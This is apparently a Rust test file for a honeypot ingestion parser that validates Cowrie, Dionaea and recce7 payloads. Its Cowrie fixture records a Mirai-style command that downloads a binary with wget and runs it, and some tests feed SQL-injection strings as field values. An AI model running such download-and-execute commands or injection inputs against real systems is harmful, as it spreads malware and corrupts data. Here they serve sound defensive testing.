//! The payload parser's tests: each family, the limits, the rejections, random input.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde_json::{Map, json};
use store::EventType;

use super::cowrie::COWRIE_FIELDS;
use super::rejection::MAX_QUOTED_CHARS;
use super::*;

const IDENT: &str = "sensor-1";

/// The event of docs/events.md, as a sensor publishes it.
const EVENT: &str = r#"{"schema":1,"id":"01a20a83-aa19-7048-b6f8-da76f3b8d472","sensor":"pi-zero-1","session":"01a20a83-a6fa-706e-a066-f2171e9d8850","time":"2026-11-23T22:25:30.649422Z","type":"telnet.login","plugin":"telnet","protocol":"telnet","src_ip":"127.0.0.1","src_port":36078,"dst_ip":"127.0.0.1","dst_port":2323,"data":{"input_type":"login","username":"root","password":"xc3511"}}"#;

/// Upstream Cowrie's hpfeeds3 output (`json.dumps(meta)`, TZ=UTC) for a telnet session with
/// failed logins, a successful one, commands, a download and its ttylog. `hostIP` is
/// IPv4-mapped: the telnet transport does not normalise addresses on a dual-stack socket.
const COWRIE_TELNET: &str = r#"{"session": "a3f1c2d4e5b6", "startTime": "2026-11-23T22:25:30.649422Z", "endTime": "2026-11-23T22:26:02.101010Z", "peerIP": "203.0.113.7", "peerPort": 51234, "hostIP": "::ffff:10.0.0.5", "hostPort": 2223, "loggedin": ["root", "xc3511"], "credentials": [["admin", "admin"], ["root", "vizxv"]], "commands": ["enable", "system", "shell", "sh", "/bin/busybox wget http://198.51.100.9/bins/mirai.arm7 -O /tmp/m; chmod +x /tmp/m; /tmp/m"], "unknownCommands": ["enable", "system", "shell"], "urls": ["http://198.51.100.9/bins/mirai.arm7"], "version": null, "ttylog": "03000000000000000900000001000000df6b036b928a0100756e616d65202d610a03000000000000000600000002000000df6b036b321103004c696e75780a", "hashes": ["2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"], "protocol": "telnet"}"#;

/// The CommunityHoneyNetwork fork's hpfeeds3 output for an SSH session (Cowrie not in UTC,
/// so `%z` offsets without a colon), with `tags` and the `cowrie.client.kex` fields.
const COWRIE_CHN_SSH: &str = r#"{"session": "0b7e2a91c4d3", "startTime": "2026-11-23T23:25:30.649422+0100", "endTime": "2026-11-23T23:25:41.002233+0100", "tags": ["campus", "dmz"], "peerIP": "198.51.100.44", "peerPort": 40522, "hostIP": "10.0.0.5", "hostPort": 2222, "loggedin": null, "credentials": [["root", "123456"], ["root", "password"]], "commands": [], "unknownCommands": [], "urls": [], "version": "SSH-2.0-Go", "ttylog": null, "hashes": [], "protocol": "ssh", "hassh": "b5752e36ba6c5979a575e43178908adf", "hasshAlgorithms": "curve25519-sha256@libssh.org,ecdh-sha2-nistp256;aes128-gcm@openssh.com,aes128-ctr;hmac-sha2-256;none", "kexAlgs": ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256"], "keyAlgs": ["ssh-rsa", "ecdsa-sha2-nistp256"], "encCS": ["aes128-gcm@openssh.com", "aes128-ctr"], "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": [""], "width": 80, "height": 24}"#;

/// Dionaea's `connection_publish` (`json.dumps(kwargs)`) for an accept on smbd over a
/// dual-stack socket.
const DIONAEA_SMB: &str = r#"{"connection_type": "accept", "connection_transport": "tcp", "connection_protocol": "smbd", "remote_host": "::ffff:198.51.100.23", "remote_port": 49822, "remote_hostname": "", "local_host": "::ffff:10.0.0.5", "local_port": 445}"#;

/// The CommunityHoneyNetwork fork's version, with `tags` and `event_type`.
const DIONAEA_CHN_HTTP: &str = r#"{"tags": ["campus"], "event_type": "Dionaea connection event", "connection_type": "accept", "connection_transport": "tcp", "connection_protocol": "httpd", "remote_host": "198.51.100.23", "remote_port": 51912, "remote_hostname": "", "local_host": "10.0.0.5", "local_port": 80}"#;

/// A `listen` incident: Dionaea has no peer then, and sends an empty address.
const DIONAEA_LISTEN: &str = r#"{"connection_type": "listen", "connection_transport": "tcp", "connection_protocol": "smbd", "remote_host": "", "remote_port": 0, "remote_hostname": "", "local_host": "10.0.0.5", "local_port": 445}"#;

fn limits() -> PayloadLimits {
    PayloadLimits::default()
}

fn small_limits() -> PayloadLimits {
    PayloadLimits {
        max_payload: 4096,
        max_field: 40,
        max_items: 16,
    }
}

fn event_json(edit: impl FnOnce(&mut Map<String, Value>)) -> Vec<u8> {
    let mut v: Value = serde_json::from_str(EVENT).unwrap();
    edit(v.as_object_mut().unwrap());
    serde_json::to_vec(&v).unwrap()
}

fn parse_event_bytes(payload: &[u8], limits: &PayloadLimits) -> Result<Event, Rejection> {
    parse(RECCE7_CHANNEL, IDENT, payload, limits).map(|p| match p {
        Parsed::Event(e) => *e,
        other => panic!("not an event: {other:?}"),
    })
}

fn cowrie(payload: &str) -> Result<CowrieSession, Rejection> {
    parse(COWRIE_CHANNEL, IDENT, payload.as_bytes(), &limits()).map(|p| match p {
        Parsed::Cowrie(s) => *s,
        other => panic!("not a Cowrie session: {other:?}"),
    })
}

fn cowrie_with(edit: impl FnOnce(&mut Map<String, Value>)) -> Result<CowrieSession, Rejection> {
    let mut v: Value = serde_json::from_str(COWRIE_TELNET).unwrap();
    edit(v.as_object_mut().unwrap());
    cowrie(&v.to_string())
}

fn dionaea(payload: &str) -> Result<DionaeaConnection, Rejection> {
    parse(DIONAEA_CHANNEL, "dionaea-1", payload.as_bytes(), &limits()).map(|p| match p {
        Parsed::Dionaea(c) => *c,
        other => panic!("not a Dionaea connection: {other:?}"),
    })
}

fn wrong_schema(r: Result<impl std::fmt::Debug, Rejection>) -> String {
    match r {
        Err(Rejection::WrongSchema(m)) => m,
        other => panic!("expected WrongSchema, got {other:?}"),
    }
}

#[test]
fn defaults_and_channels() {
    let l = PayloadLimits::default();
    assert_eq!(
        (l.max_payload, l.max_field, l.max_items),
        (1_048_576, 65_536, 10_000)
    );
    assert_eq!(channel_kind("recce7.events"), ChannelKind::Recce7);
    assert_eq!(channel_kind("cowrie.sessions"), ChannelKind::Cowrie);
    assert_eq!(channel_kind("dionaea.connections"), ChannelKind::Dionaea);
    assert_eq!(channel_kind("my.recce7.feed"), ChannelKind::Recce7);
    assert_eq!(channel_kind("Cowrie.Sessions"), ChannelKind::Recce7);
}

#[test]
fn recce7_event_round_trips() {
    let event = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
    assert_eq!(event.kind, EventType::TelnetLogin);
    assert_eq!(event.src_ip, IpAddr::V4(Ipv4Addr::LOCALHOST));
    assert_eq!(event.dst_port, 2323);
    let back = serde_json::to_value(&event).unwrap();
    let original: Value = serde_json::from_str(EVENT).unwrap();
    assert_eq!(back, original);
    // Any channel other than the two foreign ones carries recce7 events.
    assert!(matches!(
        parse("campus.recce7", IDENT, EVENT.as_bytes(), &limits()),
        Ok(Parsed::Event(_))
    ));
}

#[test]
fn recce7_event_is_normalized() {
    let payload = event_json(|o| {
        o.insert("src_ip".into(), json!("::ffff:203.0.113.9"));
        o.insert("dst_ip".into(), json!("::ffff:10.0.0.5"));
        o.insert("time".into(), json!("2026-11-23T23:25:30.649422+01:00"));
    });
    let event = parse_event_bytes(&payload, &limits()).unwrap();
    assert_eq!(event.src_ip, "203.0.113.9".parse::<IpAddr>().unwrap());
    assert_eq!(event.dst_ip, "10.0.0.5".parse::<IpAddr>().unwrap());
    assert_eq!(event.time, "2026-11-23T22:25:30.649422Z");
    // A real IPv6 address stays IPv6.
    let payload = event_json(|o| {
        o.insert("src_ip".into(), json!("2001:db8::7"));
    });
    let event = parse_event_bytes(&payload, &limits()).unwrap();
    assert!(event.src_ip.is_ipv6());
}

#[test]
fn recce7_unknown_version_comes_first() {
    assert_eq!(
        parse_event_bytes(br#"{"schema": 7}"#, &limits()),
        Err(Rejection::UnknownVersion(7))
    );
    let payload = event_json(|o| {
        o.insert("schema".into(), json!(2));
        o.insert("src_ip".into(), json!("nonsense"));
    });
    assert_eq!(
        parse_event_bytes(&payload, &limits()),
        Err(Rejection::UnknownVersion(2))
    );
    // Not a number: a schema error, not a version.
    let payload = event_json(|o| {
        o.insert("schema".into(), json!("1"));
    });
    assert!(wrong_schema(parse_event_bytes(&payload, &limits())).contains("`schema`"));
}

#[test]
fn recce7_wrong_schema_names_the_field() {
    // (field, new value or None to remove it, expected text)
    let cases: [(&str, Option<Value>, &str); 11] = [
        (
            "src_ip",
            Some(json!("1.2.3")),
            "field `src_ip`: invalid IP address syntax",
        ),
        ("data", None, "missing field `data`"),
        ("dst_port", Some(json!(65536)), "field `dst_port`"),
        (
            "type",
            Some(json!("telnet.logout")),
            "field `type`: unknown variant `telnet.logout`",
        ),
        ("data", Some(json!([1, 2])), "field `data`"),
        ("id", Some(json!("' OR 1=1 --")), "field `id`"),
        ("session", Some(json!("abc")), "field `session`"),
        ("time", Some(json!("2026-11-23 22:25:30")), "field `time`"),
        (
            "time",
            Some(json!("9999-12-31T23:59:59-10:00")),
            "field `time`",
        ),
        ("sensor", Some(json!("")), "field `sensor`: empty"),
        ("protocol", Some(json!("")), "field `protocol`: empty"),
    ];
    for (field, value, want) in cases {
        let payload = event_json(|o| match value {
            Some(v) => {
                o.insert(field.into(), v);
            }
            None => {
                o.remove(field);
            }
        });
        let message = wrong_schema(parse_event_bytes(&payload, &limits()));
        assert!(message.contains(want), "{message:?} lacks {want:?}");
    }
    assert!(
        wrong_schema(parse_event_bytes(b"[1, 2, 3]", &limits())).contains("expected a JSON object")
    );
}

#[test]
fn recce7_limits() {
    let payload = event_json(|o| {
        o.insert("data".into(), json!({"body": "x".repeat(41), "path": "/"}));
    });
    assert_eq!(
        parse_event_bytes(&payload, &small_limits()),
        Err(Rejection::FieldTooLong {
            field: "data.body".into(),
            len: 41,
            max: 40
        })
    );
    let payload = event_json(|o| {
        o.insert(
            "data".into(),
            json!({"headers": ["a", ["b", "y".repeat(50)]]}),
        );
    });
    assert_eq!(
        parse_event_bytes(&payload, &small_limits()),
        Err(Rejection::FieldTooLong {
            field: "data.headers[1][1]".into(),
            len: 50,
            max: 40
        })
    );
    let payload = event_json(|o| {
        let many: Map<String, Value> = (0..17).map(|i| (format!("c{i}"), json!(i))).collect();
        o.insert("data".into(), Value::Object(many));
    });
    assert_eq!(
        parse_event_bytes(&payload, &small_limits()),
        Err(Rejection::TooManyItems {
            field: "data".into(),
            len: 17,
            max: 16
        })
    );
    // The names are capped at 128 characters whatever the limits.
    let payload = event_json(|o| {
        o.insert("plugin".into(), json!("é".repeat(129)));
    });
    assert_eq!(
        parse_event_bytes(&payload, &limits()),
        Err(Rejection::FieldTooLong {
            field: "plugin".into(),
            len: 129,
            max: 128
        })
    );
    let payload = event_json(|o| {
        o.insert("plugin".into(), json!("p".repeat(128)));
    });
    assert!(parse_event_bytes(&payload, &limits()).is_ok());
}

#[test]
fn recce7_identifiers() {
    for bad in ["user-input", "select", "eventDateTime", "ID", "sqlite_x"] {
        let payload = event_json(|o| {
            o.insert("data".into(), json!({ bad: "x" }));
        });
        assert_eq!(
            parse_event_bytes(&payload, &limits()),
            Err(Rejection::BadIdentifier(bad.into())),
            "{bad}"
        );
    }
    // The store's own types carry their known keys (`table` is an SQL keyword).
    let start = |data: Value| {
        event_json(|o| {
            o.insert("type".into(), json!("session.start"));
            o.insert("data".into(), data);
        })
    };
    for ok in [
        json!({"table": "telnet"}),
        json!({"table": null}),
        json!({}),
        json!({"table": "http", "refused": "limit: connections per source"}),
    ] {
        let payload = start(ok.clone());
        assert!(parse_event_bytes(&payload, &limits()).is_ok(), "{ok}");
    }
    for bad in ["sessions", "rawInput", "x; DROP TABLE sessions", "table"] {
        assert_eq!(
            parse_event_bytes(&start(json!({ "table": bad })), &limits()),
            Err(Rejection::BadIdentifier(bad.into()))
        );
    }
    assert!(
        wrong_schema(parse_event_bytes(&start(json!({"table": 7})), &limits()))
            .contains("data.table")
    );
    let end = event_json(|o| {
        o.insert("type".into(), json!("session.end"));
        o.insert(
            "data".into(),
            json!({"bytes_in": 38, "bytes_out": 268, "reason": "logout", "linked_session": null}),
        );
    });
    assert!(parse_event_bytes(&end, &limits()).is_ok());
    let raw = event_json(|o| {
        o.insert("type".into(), json!("input.raw"));
        o.insert(
            "data".into(),
            json!({"reason": "not HTTP", "length": 10, "bytes": "\\x16\\x03\\x01\\x00\\x05hello"}),
        );
    });
    assert!(parse_event_bytes(&raw, &limits()).is_ok());
    // A long hostile key is clipped in the rejection.
    let key = format!("{}\n", "k".repeat(500));
    let payload = event_json(|o| {
        o.insert("data".into(), json!({ key.clone(): 1 }));
    });
    match parse_event_bytes(&payload, &limits()) {
        Err(Rejection::BadIdentifier(name)) => {
            assert!(name.len() < 220, "{}", name.len());
            assert!(name.ends_with("..."));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn size_is_checked_before_json() {
    let l = PayloadLimits {
        max_payload: 10,
        ..PayloadLimits::default()
    };
    for channel in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
        assert_eq!(
            parse(channel, IDENT, b"\xff\xfe not json at all", &l),
            Err(Rejection::TooLarge { size: 18, max: 10 })
        );
        assert!(parse(channel, IDENT, b"\"ok\"", &l).is_err());
    }
}

#[test]
fn not_json() {
    for payload in [&b""[..], b"{", b"\xff\xfe", b"{\"a\": \"\xff\"}", b"hello"] {
        for channel in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
            match parse(channel, IDENT, payload, &limits()) {
                Err(Rejection::NotJson(m)) => assert!(!m.is_empty()),
                other => panic!("{payload:?} on {channel}: {other:?}"),
            }
        }
    }
    // Nesting deeper than serde_json's recursion limit is refused, not a stack overflow.
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(matches!(
        parse(RECCE7_CHANNEL, IDENT, deep.as_bytes(), &limits()),
        Err(Rejection::NotJson(_))
    ));
}

#[test]
fn empty_channel_is_unknown() {
    assert_eq!(
        parse("", IDENT, EVENT.as_bytes(), &limits()),
        Err(Rejection::UnknownChannel(String::new()))
    );
}

#[test]
fn cowrie_telnet_session() {
    let s = cowrie(COWRIE_TELNET).unwrap();
    assert_eq!(s.id, "cowrie-0fc67beb63a78a6a5443b5ce233ce32f");
    assert_eq!(s.session, "a3f1c2d4e5b6");
    assert_eq!(s.start_time, "2026-11-23T22:25:30.649422Z");
    assert_eq!(s.end_time.as_deref(), Some("2026-11-23T22:26:02.101010Z"));
    assert_eq!(s.peer_ip, IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7)));
    assert_eq!(s.peer_port, 51234);
    assert_eq!(s.host_ip, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5)));
    assert_eq!(s.host_port, 2223);
    assert_eq!(s.protocol, "telnet");
    assert_eq!(s.logged_in, Some(("root".into(), "xc3511".into())));
    assert_eq!(
        s.credentials,
        vec![
            ("admin".to_owned(), "admin".to_owned()),
            ("root".to_owned(), "vizxv".to_owned())
        ]
    );
    assert_eq!(s.commands.len(), 5);
    assert_eq!(s.commands[0], "enable");
    assert_eq!(s.unknown_commands, ["enable", "system", "shell"]);
    assert_eq!(s.urls, ["http://198.51.100.9/bins/mirai.arm7"]);
    assert_eq!(s.version, None);
    assert_eq!(s.hassh, None);
    assert!(s.ttylog.as_deref().unwrap().starts_with("0300000000"));
    assert_eq!(s.hashes.len(), 1);
    assert!(s.extra.is_empty(), "{:?}", s.extra);
}

#[test]
fn cowrie_chn_ssh_session() {
    let s = cowrie(COWRIE_CHN_SSH).unwrap();
    assert_eq!(s.protocol, "ssh");
    assert_eq!(s.start_time, "2026-11-23T22:25:30.649422Z");
    assert_eq!(s.end_time.as_deref(), Some("2026-11-23T22:25:41.002233Z"));
    assert_eq!(s.logged_in, None);
    assert_eq!(s.credentials.len(), 2);
    assert!(s.commands.is_empty() && s.urls.is_empty() && s.hashes.is_empty());
    assert_eq!(s.version.as_deref(), Some("SSH-2.0-Go"));
    assert_eq!(s.hassh.as_deref(), Some("b5752e36ba6c5979a575e43178908adf"));
    assert_eq!(s.ttylog, None);
    let keys: Vec<&str> = s.extra.keys().map(String::as_str).collect();
    let mut want = [
        "tags",
        "hasshAlgorithms",
        "kexAlgs",
        "keyAlgs",
        "encCS",
        "macCS",
        "compCS",
        "langCS",
        "width",
        "height",
    ];
    want.sort_unstable();
    let mut keys_sorted = keys.clone();
    keys_sorted.sort_unstable();
    assert_eq!(keys_sorted, want);
    assert_eq!(s.extra["tags"], json!(["campus", "dmz"]));
    assert_eq!(s.extra["width"], json!(80));
}

#[test]
fn cowrie_minimal_and_lenient() {
    let s = cowrie(
        r#"{"session": "c0ffee000001", "startTime": "2026-11-23T22:25:30Z", "endTime": "", "peerIP": "2001:db8::1", "peerPort": "2222", "hostIP": "::ffff:192.0.2.1", "hostPort": 22}"#,
    )
    .unwrap();
    assert_eq!(s.start_time, "2026-11-23T22:25:30.000000Z");
    assert_eq!(s.end_time, None);
    assert_eq!(s.protocol, "ssh");
    assert_eq!(
        s.peer_ip,
        IpAddr::V6("2001:db8::1".parse::<Ipv6Addr>().unwrap())
    );
    assert_eq!(s.peer_port, 2222);
    assert_eq!(s.host_ip, IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)));
    assert!(s.credentials.is_empty() && s.logged_in.is_none());
    for (time, want) in [
        ("2026-11-23T22:25:30.649422Z", "2026-11-23T22:25:30.649422Z"),
        (
            "2026-11-23T17:25:30.649422-0500",
            "2026-11-23T22:25:30.649422Z",
        ),
        ("2026-11-24T00:25:30.5+02:00", "2026-11-23T22:25:30.500000Z"),
        (
            "2026-11-23 22:25:30.123456789Z",
            "2026-11-23T22:25:30.123456Z",
        ),
        ("2026-11-23t22:25:30z", "2026-11-23T22:25:30.000000Z"),
        ("2026-11-23T22:25:30+00:00", "2026-11-23T22:25:30.000000Z"),
    ] {
        let got = cowrie_with(|o| {
            o.insert("startTime".into(), json!(time));
        });
        assert_eq!(got.unwrap().start_time, want, "{time}");
    }
    for bad in [
        "",
        "2026-11-23T22:25:30",
        "2026-11-23T22:25:30.Z",
        "2026-11-23T22:25:30.1234567890Z",
        "2026-02-30T22:25:30Z",
        "2026-11-23T24:00:00Z",
        "2026-11-23T22:25:30+2400",
        "2026-11-23T22:25:30+02:0",
        "0000-01-01T00:00:00+01:00",
        "twenty past ten",
        "2026-11-23T22:25:3é",
    ] {
        let message = wrong_schema(cowrie_with(|o| {
            o.insert("startTime".into(), json!(bad));
        }));
        assert!(message.contains("`startTime`"), "{bad}: {message}");
    }
}

#[test]
fn cowrie_wrong_shapes_name_the_field() {
    let cases: Vec<(&str, Value, &str)> = vec![
        (
            "credentials",
            json!([["a", "b"], ["c", "d", "e"]]),
            "`credentials[1]`",
        ),
        (
            "credentials",
            json!([["a", "b"], ["c", 5]]),
            "`credentials[1]`",
        ),
        (
            "credentials",
            json!([["a", "b"], "c:d"]),
            "`credentials[1]`",
        ),
        ("credentials", json!({"a": "b"}), "`credentials`"),
        ("loggedin", json!("root/root"), "`loggedin`"),
        ("loggedin", json!(["root", null]), "`loggedin`"),
        ("commands", json!(["ls", 7]), "`commands[1]`"),
        ("urls", json!("http://x"), "`urls`"),
        ("version", json!(2), "`version`"),
        ("peerPort", json!("22a"), "`peerPort`"),
        ("peerPort", json!(70000), "`peerPort`"),
        ("peerPort", json!(-1), "`peerPort`"),
        ("hostPort", json!(22.5), "`hostPort`"),
        ("hostPort", json!(true), "`hostPort`"),
        ("peerIP", json!("203.0.113.300"), "`peerIP`"),
        ("peerIP", json!(""), "`peerIP`"),
        ("session", json!(""), "`session`"),
        ("session", json!(12), "`session`"),
        ("endTime", json!("yesterday"), "`endTime`"),
    ];
    for (field, value, want) in cases {
        let message = wrong_schema(cowrie_with(|o| {
            o.insert(field.into(), value.clone());
        }));
        assert!(message.contains(want), "{field}={value}: {message}");
    }
    for required in [
        "session",
        "startTime",
        "peerIP",
        "peerPort",
        "hostIP",
        "hostPort",
    ] {
        let message = wrong_schema(cowrie_with(|o| {
            o.remove(required);
        }));
        assert_eq!(message, format!("missing field `{required}`"));
    }
    assert!(wrong_schema(cowrie("[]")).contains("expected a JSON object"));
}

#[test]
fn cowrie_limits() {
    let l = PayloadLimits {
        max_items: 16,
        ..PayloadLimits::default()
    };
    let mut v: Value = serde_json::from_str(COWRIE_TELNET).unwrap();
    v["commands"] = json!(vec!["ls"; 17]);
    let r = parse(COWRIE_CHANNEL, IDENT, v.to_string().as_bytes(), &l);
    assert_eq!(
        r,
        Err(Rejection::TooManyItems {
            field: "commands".into(),
            len: 17,
            max: 16
        })
    );
    let l = PayloadLimits {
        max_field: 64,
        ..PayloadLimits::default()
    };
    match parse(COWRIE_CHANNEL, IDENT, COWRIE_TELNET.as_bytes(), &l) {
        Err(Rejection::FieldTooLong { field, max: 64, .. }) => {
            assert!(
                field == "commands[4]" || field == "ttylog" || field == "hashes[0]",
                "{field}"
            );
        }
        other => panic!("{other:?}"),
    }
    let long = cowrie_with(|o| {
        o.insert("credentials".into(), json!([["root", "p".repeat(70_000)]]));
    });
    assert_eq!(
        long.map(|_| ()),
        Err(Rejection::FieldTooLong {
            field: "credentials[0][1]".into(),
            len: 70_000,
            max: 65_536
        })
    );
}

#[test]
fn dionaea_connections() {
    let c = dionaea(DIONAEA_SMB).unwrap();
    assert_eq!(c.id, "dionaea-7b41dd47f43691662e35e9342418e2d6");
    assert_eq!(
        (
            c.connection_type.as_str(),
            c.transport.as_str(),
            c.protocol.as_str()
        ),
        ("accept", "tcp", "smbd")
    );
    assert_eq!(c.remote_ip, IpAddr::V4(Ipv4Addr::new(198, 51, 100, 23)));
    assert_eq!(c.remote_port, 49822);
    assert_eq!(c.remote_hostname, None);
    assert_eq!(c.local_ip, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5)));
    assert_eq!(c.local_port, 445);
    assert!(c.extra.is_empty());

    let c = dionaea(DIONAEA_CHN_HTTP).unwrap();
    assert_eq!(c.protocol, "httpd");
    assert_eq!(c.extra["tags"], json!(["campus"]));
    assert_eq!(c.extra["event_type"], json!("Dionaea connection event"));

    let c = dionaea(
        r#"{"connection_type": "connect", "connection_transport": "tcp", "connection_protocol": "ftpctrl", "remote_host": "2001:db8::21", "remote_port": "21", "remote_hostname": "files.example.net", "local_host": "10.0.0.5", "local_port": "40112"}"#,
    )
    .unwrap();
    assert_eq!(c.remote_hostname.as_deref(), Some("files.example.net"));
    assert_eq!((c.remote_port, c.local_port), (21, 40112));
    assert!(c.remote_ip.is_ipv6());

    let c = dionaea(
        r#"{"remote_host": "198.51.100.23", "remote_port": 1, "local_host": "10.0.0.5", "local_port": 2, "connection_protocol": null, "remote_hostname": null}"#,
    )
    .unwrap();
    assert_eq!(
        (
            c.connection_type.as_str(),
            c.transport.as_str(),
            c.protocol.as_str()
        ),
        ("unknown", "unknown", "unknown")
    );
    assert_eq!(c.remote_hostname, None);

    assert!(wrong_schema(dionaea(DIONAEA_LISTEN)).contains("`remote_host`: empty"));
    for (field, value) in [
        ("remote_port", json!("x")),
        ("local_port", json!(65536)),
        ("remote_host", json!("host.example")),
        ("local_host", json!(["10.0.0.5"])),
        ("connection_type", json!(1)),
        ("remote_hostname", json!(false)),
    ] {
        let mut v: Value = serde_json::from_str(DIONAEA_SMB).unwrap();
        v[field] = value;
        let message = wrong_schema(dionaea(&v.to_string()));
        assert!(message.contains(&format!("`{field}`")), "{message}");
    }
    for required in ["remote_host", "remote_port", "local_host", "local_port"] {
        let mut v: Value = serde_json::from_str(DIONAEA_SMB).unwrap();
        v.as_object_mut().unwrap().remove(required);
        assert_eq!(
            wrong_schema(dionaea(&v.to_string())),
            format!("missing field `{required}`")
        );
    }
    let mut tagged: Value = serde_json::from_str(DIONAEA_CHN_HTTP).unwrap();
    tagged["tags"] = json!(vec!["campus"; 17]);
    assert_eq!(
        parse(
            DIONAEA_CHANNEL,
            "d",
            tagged.to_string().as_bytes(),
            &small_limits()
        ),
        Err(Rejection::TooManyItems {
            field: "tags".into(),
            len: 17,
            max: 16
        })
    );
}

#[test]
fn ids_are_deterministic() {
    let a = cowrie(COWRIE_TELNET).unwrap();
    let b = cowrie(COWRIE_TELNET).unwrap();
    assert_eq!(a, b);
    // The same session summarised again (e.g. a later end time) keeps its id ...
    let c = cowrie_with(|o| {
        o.insert("endTime".into(), json!("2026-11-23T22:27:00.000000Z"));
    })
    .unwrap();
    assert_eq!(a.id, c.id);
    // ... but the same session id from another sensor is another session.
    let other = parse(
        COWRIE_CHANNEL,
        "sensor-2",
        COWRIE_TELNET.as_bytes(),
        &limits(),
    );
    match other {
        Ok(Parsed::Cowrie(s)) => assert_ne!(s.id, a.id),
        other => panic!("{other:?}"),
    }
    let hex = a.id.strip_prefix("cowrie-").unwrap();
    assert_eq!(hex.len(), 32);
    assert!(hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')));
    let d1 = dionaea(DIONAEA_SMB).unwrap();
    let d2 = dionaea(DIONAEA_SMB).unwrap();
    assert_eq!(d1.id, d2.id);
    let d3 = dionaea(&DIONAEA_SMB.replace("49822", "49823")).unwrap();
    assert_ne!(d1.id, d3.id);
    let e1 = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
    let e2 = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
    assert_eq!(e1, e2);
}

#[test]
fn rejection_messages_are_short_and_human() {
    let cases = [
        (
            Rejection::NotJson("EOF while parsing a value at line 1 column 0".into()),
            "not JSON: EOF while parsing a value at line 1 column 0",
        ),
        (
            Rejection::TooLarge {
                size: 2_000_000,
                max: 1_048_576,
            },
            "payload of 2000000 bytes exceeds 1048576",
        ),
        (Rejection::UnknownVersion(7), "unknown schema version 7"),
        (
            Rejection::WrongSchema("missing field `data`".into()),
            "wrong schema: missing field `data`",
        ),
        (
            Rejection::FieldTooLong {
                field: "data.body".into(),
                len: 70_000,
                max: 65_536,
            },
            "field `data.body` is 70000 long, more than 65536",
        ),
        (
            Rejection::TooManyItems {
                field: "commands".into(),
                len: 10_001,
                max: 10_000,
            },
            "field `commands` has 10001 items, more than 10000",
        ),
        (
            Rejection::BadIdentifier("user-input".into()),
            "`user-input` is not a usable SQL name (unsafe, a keyword, a fixed column or a reserved table)",
        ),
        (Rejection::UnknownChannel("x".into()), "unknown channel `x`"),
    ];
    for (rejection, text) in cases {
        assert_eq!(rejection.to_string(), text);
    }
    // Attacker text in a serde message is clipped and escaped.
    let payload = event_json(|o| {
        o.insert(
            "type".into(),
            json!(format!("\u{1b}[31m{}", "t".repeat(5000))),
        );
    });
    let message = wrong_schema(parse_event_bytes(&payload, &limits()));
    assert!(
        message.chars().count() <= MAX_QUOTED_CHARS + 3,
        "{}",
        message.len()
    );
    assert!(!message.chars().any(char::is_control));
    let message = Rejection::WrongSchema(message).to_string();
    assert!(message.len() < 400);
}

#[test]
fn paths_clip_hostile_keys() {
    let key = format!("a\u{0}b{}", "k".repeat(300));
    let payload = json!({ "session": "s", "x": { key: "v".repeat(20) } }).to_string();
    match parse(COWRIE_CHANNEL, IDENT, payload.as_bytes(), &small_limits()) {
        Err(Rejection::FieldTooLong {
            field,
            len: 303,
            max: 40,
        }) => {
            // The key itself is too long: reported at its own path.
            assert!(field.starts_with("x.a\\u{0}b"), "{field}");
            assert!(field.len() < 100, "{field}");
        }
        other => panic!("{other:?}"),
    }
    let payload = json!({"x": {"k": "v".repeat(50)}}).to_string();
    assert_eq!(
        parse(DIONAEA_CHANNEL, IDENT, payload.as_bytes(), &small_limits()),
        Err(Rejection::FieldTooLong {
            field: "x.k".into(),
            len: 50,
            max: 40
        })
    );
    let many: Map<String, Value> = (0..17).map(|i| (format!("k{i}"), json!(i))).collect();
    let payload = Value::Object(many).to_string();
    assert_eq!(
        parse(DIONAEA_CHANNEL, IDENT, payload.as_bytes(), &small_limits()),
        Err(Rejection::TooManyItems {
            field: "payload".into(),
            len: 17,
            max: 16
        })
    );
}

// -----------------------------------------------------------------------------------------
// Robustness: pseudo-random bytes and JSON mutations never panic.

struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % (n.max(1) as u64)) as usize
    }

    fn chance(&mut self, one_in: u64) -> bool {
        self.next().is_multiple_of(one_in)
    }
}

const STRINGS: &[&str] = &[
    "",
    "1.2.3.4",
    "::ffff:10.0.0.5",
    "::ffff:1.2.3",
    "2001:db8::1",
    "fe80::1%eth0",
    "65535",
    "65536",
    "-1",
    "22a",
    "2026-11-23T22:25:30.649422Z",
    "2026-11-23T22:25:30+0000",
    "9999-12-31T23:59:59-23:59",
    "0000-01-01T00:00:00+23:59",
    "2026-11-23T22:25:3é",
    "01a20a83-aa19-7048-b6f8-da76f3b8d472",
    "session.start",
    "session.end",
    "telnet.login",
    "input.raw",
    "table",
    "sessions",
    "ID",
    "user_input",
    "x-y",
    "\u{0}\u{1b}[2J",
    "é€𝄞",
    "listen",
];

fn random_value(rng: &mut XorShift, depth: usize) -> Value {
    match rng.below(if depth > 3 { 6 } else { 9 }) {
        0 => Value::Null,
        1 => Value::Bool(rng.chance(2)),
        2 => json!(rng.next() % 70_000),
        3 => json!(-(rng.below(100_000) as i64)),
        4 => json!((rng.next() % 1_000_000) as f64 / 7.0),
        5 | 6 => {
            if rng.chance(8) {
                Value::String("z".repeat(rng.below(100)))
            } else {
                Value::String(STRINGS[rng.below(STRINGS.len())].to_owned())
            }
        }
        7 => Value::Array(
            (0..rng.below(5))
                .map(|_| random_value(rng, depth + 1))
                .collect(),
        ),
        _ => {
            let mut m = Map::new();
            for _ in 0..rng.below(5) {
                let k = STRINGS[rng.below(STRINGS.len())].to_owned();
                m.insert(k, random_value(rng, depth + 1));
            }
            Value::Object(m)
        }
    }
}

